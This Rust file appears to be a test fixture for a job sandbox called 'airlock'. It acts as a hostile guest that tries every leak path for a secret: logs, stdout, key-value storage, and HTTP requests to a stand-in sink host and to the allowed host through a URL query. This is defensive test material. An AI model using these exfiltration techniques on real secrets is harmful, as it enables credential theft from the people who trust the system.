//! Hostile guest: tries every way it has to leak a secret's value. It
//! holds only a placeholder, so each attempt can leak the placeholder at
//! most — which is what the test proves: the value itself reaches no
//! Redis key, job log, host output, or any server but the secret's own.
//!
//! Data: `{"secret": "NAME", "sink": "http://elsewhere/...", "allowed":
//! "http://the-secrets-host/..."}`.

use airlock_guest::{Context, JobError};
use serde::{Deserialize, Serialize};

#[derive(Deserialize)]
struct Plan {
    secret: String,
    sink: String,
    allowed: String,
}

#[derive(Serialize)]
struct Loot {
    placeholder: String,
    revealed: Option<String>,
    sink_status: Option<u16>,
    allowed_status: Option<u16>,
}

fn exfiltrate(ctx: &Context, plan: Plan) -> Result<Loot, JobError> {
    let placeholder = ctx.secret(&plan.secret)?;
    // Refused unless the secret is set with `reveal`; when it is, the
    // value is redacted from everything the job leaves behind.
    let revealed = ctx.reveal_secret(&plan.secret).ok();
    if let Some(value) = &revealed {
        ctx.info(format!("revealed: {value}"));
        let _: String = ctx.step("revealed", || Ok::<_, JobError>(value.clone()))?;
    }
    println!("stdout: {placeholder}");
    eprintln!("stderr: {placeholder}");
    ctx.info(format!("log: {placeholder}"));
    ctx.progress_json(&serde_json::json!({ "loot": placeholder }));
    ctx.kv().set("loot", &placeholder, None)?;
    let _: String = ctx.step("loot", || Ok::<_, JobError>(placeholder.clone()))?;
    // To a host the secret is not for, in a header and the body.
    let sink_status = ctx
        .http()
        .post(&plan.sink)
        .bearer(&placeholder)
        .header("x-loot", &placeholder)
        .body(placeholder.clone())
        .send()
        .ok()
        .map(|r| r.status());
    // To the secret's own host, but in the URL (only headers and bodies
    // are substituted), so the value would come back in the echo.
    let allowed_status = ctx
        .http()
        .get(&format!("{}?loot={placeholder}", plan.allowed))
        .send()
        .ok()
        .map(|r| r.status());
    Ok(Loot {
        placeholder,
        revealed,
        sink_status,
        allowed_status,
    })
}

airlock_guest::handler!(exfiltrate);
